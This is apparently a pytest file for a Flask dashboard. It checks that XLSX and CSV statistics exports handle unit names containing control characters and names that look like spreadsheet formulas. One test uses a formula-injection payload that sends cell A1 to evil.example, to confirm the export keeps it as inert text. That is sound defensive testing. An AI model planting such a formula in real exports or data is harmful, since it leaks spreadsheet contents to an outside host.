"""The statistics exports never fail on a stored name: what an XLSX cell cannot hold becomes U+FFFD there, while CSV
keeps the text as it is."""

import csv
import io
from typing import Any

from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.extensions import db
from app.org.service import unit_by_code
from tests.conftest import login
from tests.dashboard.test_stats import LIUWAN, TAOYUAN, TOWNSHIP_1

QUERY = f"org_unit={TOWNSHIP_1}&period=month&date=2026-03-09"
NAMES = {TOWNSHIP_1: "东城\x01街道", TAOYUAN: "桃源\x0b社区\x1f", LIUWAN: "柳湾\ufffe社区\uffff"}
SHOWN = {TOWNSHIP_1: "东城\ufffd街道", TAOYUAN: "桃源\ufffd社区\ufffd", LIUWAN: "柳湾\ufffd社区\ufffd"}


def _rename() -> None:
    """Names holding control characters (text is stored as written)."""
    for code, name in NAMES.items():
        unit = unit_by_code(code)
        assert unit is not None
        unit.name = name
    db.session.commit()


def test_exports_of_names_a_spreadsheet_cell_cannot_hold(client: FlaskClient, run: Any) -> None:
    run(_rename)
    login(client, "leader")
    response = client.get(f"/dashboard/export.xlsx?{QUERY}")
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    assert {row[1]: row[2] for row in rows[1:4]} == SHOWN
    text = client.get(f"/dashboard/export.csv?{QUERY}").data.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text)))
    assert {row[1]: row[2] for row in table[1:4]} == NAMES


def test_a_name_that_looks_like_a_formula_is_shown_not_run(client: FlaskClient, run: Any) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'

    def rename() -> None:
        unit = unit_by_code(TAOYUAN)
        assert unit is not None
        unit.name = formula
        db.session.commit()

    run(rename)
    login(client, "leader")
    book = load_workbook(io.BytesIO(client.get(f"/dashboard/export.xlsx?{QUERY}").data))
    cells = {row[1].value: row[2] for row in book.active.iter_rows(min_row=2, max_row=4)}
    assert cells[TAOYUAN].value == formula and cells[TAOYUAN].data_type == "s"  # text, as written; no formula
    text = client.get(f"/dashboard/export.csv?{QUERY}").data.decode("utf-8-sig")
    assert {row[1]: row[2] for row in list(csv.reader(io.StringIO(text)))[1:4]}[TAOYUAN] == "'" + formula
